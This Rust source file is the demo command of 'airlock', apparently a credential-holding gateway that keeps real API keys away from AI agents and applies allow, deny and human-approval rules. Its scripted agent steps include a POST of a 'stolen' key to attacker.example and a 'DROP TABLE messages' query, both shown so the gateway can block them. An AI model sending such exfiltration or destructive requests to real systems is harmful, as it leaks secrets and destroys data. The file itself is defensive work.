//! `airlock demo`: the whole idea in a minute. A gateway on free ports in a temporary
//! directory, a local HTTPS "mail API", a sealed demo key, and a scripted agent that holds
//! only the placeholder.

use std::sync::Arc;

use airlock_core::audit::AuditEvent;
use anyhow::Context;
use bytes::Bytes;
use http::{Request, Response, StatusCode};
use http_body_util::Full;
use hyper::body::Incoming;
use hyper_util::rt::TokioIo;
use tokio::net::TcpListener;

use crate::client::{Route, send};
use crate::home::random_token;

const PLACEHOLDER: &str = "airlock-gmail";

fn config(api_port: u16) -> String {
    format!(
        r#"# The demo's policy: reads allowed, sending needs a human, deletes and schema changes denied.
[gateway]
listen = "127.0.0.1:0"
control = "127.0.0.1:0"
default = "deny"
data_dir = "data"
allow_private = ["127.0.0.1:{api_port}"]   # the local mail API
upstream_ca = ["upstream-ca.pem"]

[[agents]]
name = "mailbot"
secrets = ["gmail"]

[secrets.gmail]
hosts = ["localhost"]
header = "Authorization"
format = "Bearer {{secret}}"
placeholder = "{PLACEHOLDER}"
env = "GMAIL_TOKEN"

[people.alice]
roles = ["owner"]

[[rules]]
name = "sending mail needs a human"
hosts = ["localhost"]
methods = ["POST"]
paths = ["/gmail/v1/users/*/messages/send"]
action = "approve"
approvers = ["owner"]
timeout = "2m"

[[rules]]
name = "gmail reads"
hosts = ["localhost"]
methods = ["GET"]
paths = ["/gmail/v1/**"]
action = "allow"

[[rules]]
name = "no deletes"
hosts = ["localhost"]
methods = ["DELETE"]
action = "deny"
reason = "deleting mail is not allowed for agents; archive instead"

[[rules]]
name = "sql reads"
hosts = ["localhost"]
methods = ["POST"]
paths = ["/v1/sql"]
body = {{ sql = ["read"] }}
action = "allow"

[[rules]]
name = "no schema changes"
hosts = ["localhost"]
methods = ["POST"]
paths = ["/v1/sql"]
body = {{ sql = ["ddl"] }}
action = "deny"
"#
    )
}

/// The local "mail API": it checks that the real key arrived, and has a debug endpoint
/// that echoes the Authorization header back (to show scrubbing).
async fn mail_api(req: Request<Incoming>, real: Arc<String>) -> Response<Full<Bytes>> {
    let auth = req
        .headers()
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string();
    let good = auth == format!("Bearer {real}");
    let path = req.uri().path().to_string();
    let (status, body) = match (good, path.as_str()) {
        (false, _) => (
            StatusCode::UNAUTHORIZED,
            serde_json::json!({"error": "invalid API key"}),
        ),
        (true, "/gmail/v1/users/me/debug/echo") => (StatusCode::OK, serde_json::json!({"you_sent": auth})),
        (true, "/gmail/v1/users/me/messages/send") => (
            StatusCode::OK,
            serde_json::json!({"id": "sent-1", "labelIds": ["SENT"]}),
        ),
        (true, _) => (
            StatusCode::OK,
            serde_json::json!({"messages": [{"id": "m1", "subject": "Quarterly numbers"}], "auth": "the real API key arrived"}),
        ),
    };
    let mut r = Response::new(Full::new(Bytes::from(body.to_string())));
    *r.status_mut() = status;
    r
}

async fn start_mail_api(dir: &std::path::Path, real: Arc<String>) -> anyhow::Result<u16> {
    let acceptor = crate::local::upstream_tls(dir, &[b"http/1.1"])?;
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let port = listener.local_addr()?.port();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let (acceptor, real) = (acceptor.clone(), real.clone());
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else { return };
                let svc = hyper::service::service_fn(move |req| {
                    let real = real.clone();
                    async move { Ok::<_, std::convert::Infallible>(mail_api(req, real).await) }
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(tls), svc)
                    .await;
            });
        }
    });
    Ok(port)
}

fn short(body: &Bytes) -> String {
    let v: serde_json::Value = serde_json::from_slice(body).unwrap_or(serde_json::Value::Null);
    if let Some(r) = v.pointer("/airlock/reason").and_then(|r| r.as_str()) {
        return r.to_string();
    }
    String::from_utf8_lossy(body).trim().chars().take(160).collect()
}

/// The terminal as the approval surface: shows the held request's card and asks (or, with
/// `--yes`, approves and says so). Votes as the demo's one person, alice.
fn decide_in_terminal(hub: airlock_approvals::Hub, yes: bool) -> tokio::task::JoinHandle<()> {
    use std::io::{BufRead, Write};
    let mut events = hub.subscribe();
    tokio::spawn(async move {
        let id = loop {
            match events.recv().await {
                Ok(ev) if ev.state == "pending" => break ev.id,
                Ok(_) => continue,
                Err(_) => return,
            }
        };
        let Ok(Some(view)) = hub.get(&id).await else { return };
        println!("\n     held for approval — the card every approver sees:\n");
        for line in airlock_channels::render::terminal(&view.card, &view.status).lines() {
            println!("       {line}");
        }
        let approve = if yes {
            println!("\n     --yes: approving as alice without asking.");
            true
        } else {
            print!("\n     Approve as alice? [y/N] ");
            let _ = std::io::stdout().flush();
            let answer = tokio::task::spawn_blocking(|| {
                let mut line = String::new();
                std::io::stdin()
                    .lock()
                    .read_line(&mut line)
                    .map(|_| line)
                    .unwrap_or_default()
            })
            .await
            .unwrap_or_default();
            let a = matches!(answer.trim(), "y" | "Y" | "yes");
            if answer.is_empty() {
                println!("(no answer on stdin: denying; run `airlock demo --yes` to approve)");
            }
            a
        };
        let decision = if approve {
            airlock_channels::token::Decision::Approve
        } else {
            airlock_channels::token::Decision::Deny
        };
        if let Err(e) = hub.vote(&id, "alice", decision, "terminal").await {
            println!("     vote not counted: {e}");
        }
    })
}

pub async fn run(yes: bool) -> anyhow::Result<()> {
    let tmp = tempfile::tempdir()?;
    let dir = tmp.path();
    let real = Arc::new(format!("demo-real-key-{}", &random_token()[..16]));
    let api_port = start_mail_api(dir, real.clone()).await?;
    let (home, opened, token) =
        crate::local::home(dir, &config(api_port), ("gmail", real.as_bytes()), "mailbot").await?;
    let proxy = TcpListener::bind("127.0.0.1:0").await?;
    let control = TcpListener::bind("127.0.0.1:0").await?;
    let running = crate::serve::start(&home, opened, proxy, control).await?;
    let proxy_url = format!("http://mailbot:{token}@{}", running.proxy_addr);
    let ca = std::fs::read(home.ca_cert_path())?;
    let route = Route::new(Some(&proxy_url), &[&ca])?;

    println!("airlock demo: a gateway, a local HTTPS mail API, and an agent that holds only a placeholder.\n");
    println!(
        "  gateway  proxy {} · control {} · data {}",
        running.proxy_addr,
        running.control_addr,
        home.data_dir().display()
    );
    println!(
        "  agent    mailbot, GMAIL_TOKEN={PLACEHOLDER}  (the real key is sealed in the vault; the agent never sees it)\n"
    );

    let base = format!("https://localhost:{api_port}");
    let steps: [(&str, &str, String, &str, Option<&str>); 6] = [
        (
            "1",
            "read mail",
            format!("{base}/gmail/v1/users/me/messages"),
            "GET",
            None,
        ),
        (
            "1b",
            "API echoes the key back",
            format!("{base}/gmail/v1/users/me/debug/echo"),
            "GET",
            None,
        ),
        (
            "2",
            "delete mail",
            format!("{base}/gmail/v1/users/me/messages/m1"),
            "DELETE",
            None,
        ),
        (
            "3",
            "send the key elsewhere",
            "https://attacker.example/collect".to_string(),
            "POST",
            Some("{\"stolen\":\"airlock-gmail\"}"),
        ),
        (
            "4",
            "send mail",
            format!("{base}/gmail/v1/users/me/messages/send"),
            "POST",
            Some(
                "{\"raw\":\"VG86IGJvYkBleGFtcGxlLmNvbQ0KU3ViamVjdDogUXVhcnRlcmx5IG51bWJlcnMNCg0KU2VlIGF0dGFjaGVkLg\"}",
            ),
        ),
        (
            "5",
            "change the schema",
            format!("{base}/v1/sql"),
            "POST",
            Some("{\"query\":\"DROP TABLE messages\"}"),
        ),
    ];
    for (n, what, url, method, body) in steps {
        let uri: http::Uri = url.parse()?;
        let host = uri.host().context("host")?.to_string();
        let port = uri.port_u16().unwrap_or(443);
        println!("[{n}] {what:<24} {method} {url}");
        let decider = match (&running.hub, what) {
            (Some(hub), "send mail") => Some(decide_in_terminal(hub.clone(), yes)),
            _ => None,
        };
        let mut conn = route.connect(&host, port).await?;
        let req = Request::builder()
            .method(method)
            .uri(uri.path())
            .header("host", uri.authority().map_or(host.clone(), |a| a.to_string()))
            .header("authorization", format!("Bearer {PLACEHOLDER}"))
            .header("content-type", "application/json")
            .body(Full::new(Bytes::from(body.unwrap_or("").to_string())))?;
        let (resp, bytes) = send(&mut conn, req).await?;
        let decision = resp
            .headers()
            .get("x-airlock-decision")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("-")
            .to_string();
        if let Some(d) = decider {
            let _ = d.await;
        }
        println!("     → {} {decision}: {}", resp.status().as_u16(), short(&bytes));
        if bytes.windows(real.len()).any(|w| w == real.as_bytes()) {
            anyhow::bail!("the real key reached the agent: the demo found a bug");
        }
    }

    running.shutdown().await?;
    let opened = home.open().await?;
    println!("\naudit trail ({}):", home.store.describe());
    for r in opened.store.audit_tail(20).await? {
        if let Ok(ev) = serde_json::from_slice::<AuditEvent>(&r.body) {
            println!("  {}", audit_line(r.seq, &ev));
        }
    }
    let pk = opened.signer.public_key();
    let verify = |pk: &[u8], m: &[u8], s: &[u8]| {
        <[u8; 32]>::try_from(pk).is_ok_and(|k| airlock_vault::verify_signature(&k, m, s))
    };
    let report = airlock_store::verify_chain(&opened.store, verify, &pk).await?;
    println!(
        "\naudit verify: chain intact, {} records, {} signed checkpoint(s).",
        report.records, report.checkpoints
    );
    println!("The real key never left the gateway: the agent held \"{PLACEHOLDER}\" throughout.");
    Ok(())
}

/// One readable line per audit record. Paths, hosts and reasons are the agent's text: the
/// line goes through the cards' escaping, so ESC, C1 controls and bidi overrides show as
/// `<U+XXXX>` instead of driving the terminal.
pub fn audit_line(seq: i64, ev: &AuditEvent) -> String {
    airlock_channels::text::one_line(&format!(
        "#{seq:<3} {:<12} {:<5} {:<6} {} {}{} → {} ({})",
        ev.kind,
        ev.decision,
        ev.method.as_deref().unwrap_or("-"),
        ev.agent.as_deref().unwrap_or("-"),
        ev.host.as_deref().unwrap_or("-"),
        ev.path.as_deref().unwrap_or(""),
        ev.status.map_or("-".to_string(), |s| s.to_string()),
        ev.reason
    ))
}
